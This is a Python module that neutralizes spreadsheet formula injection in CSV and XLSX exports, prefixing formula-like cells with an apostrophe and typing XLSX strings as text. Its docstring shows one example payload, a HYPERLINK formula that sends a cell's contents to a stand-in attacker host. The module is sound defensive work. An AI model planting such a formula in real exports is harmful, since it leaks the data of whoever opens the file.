"""Spreadsheet cells that stay data: no formula injection in any CSV or XLSX the system writes.

A cell starting with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return, which some programs skip
before looking) is read by Excel, LibreOffice and Sheets as a formula: a name like
``=HYPERLINK("http://evil.example?"&A1, "click")`` would run on the reader's machine. Every export
passes its rows through here:

- CSV: such a cell gets a leading apostrophe (``'=HYPERLINK(…)``), which spreadsheets show as text;
- XLSX: every string is written as a typed text cell, never as a formula, and keeps its exact value.

A plain number with a sign (``+919826012345``, ``-5``) cannot call anything and is left as it is, so
E.164 mobiles export unchanged.
"""

import csv
import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d[\d ]*(\.\d+)?")


def is_formula_like(value) -> bool:
    return (isinstance(value, str) and value.startswith(FORMULA_STARTS)
            and _PLAIN_NUMBER.fullmatch(value) is None)


def safe_cell(value):
    """``value`` as a CSV cell no spreadsheet evaluates."""
    return "'" + value if is_formula_like(value) else value


def safe_row(row: Iterable) -> list:
    return [safe_cell(value) for value in row]


class SafeCsvWriter:
    """``csv.writer`` whose rows are neutralized: ``writerow`` returns what the target's ``write`` returns."""

    def __init__(self, target, **options):
        self._writer = csv.writer(target, **options)

    def writerow(self, row: Iterable):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(target, **options) -> SafeCsvWriter:
    return SafeCsvWriter(target, **options)


def xlsx_row(sheet, row: Iterable) -> list:
    """Cells for ``sheet.append`` (write-only or normal sheet): strings typed as text, never formulas."""
    from openpyxl.cell import WriteOnlyCell  # noqa: PLC0415 — only XLSX writers need openpyxl

    cells = []
    for value in row:
        if isinstance(value, str):
            cell = WriteOnlyCell(sheet, value)
            cell.data_type = "s"  # openpyxl would store "=…" as a formula
            cells.append(cell)
        else:
            cells.append(value)
    return cells


def xlsx_append(sheet, row: Iterable) -> None:
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet  # noqa: PLC0415

    if isinstance(sheet, WriteOnlyWorksheet):  # takes the typed cells as they are
        sheet.append(xlsx_row(sheet, row))
        return
    sheet.append(list(row))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
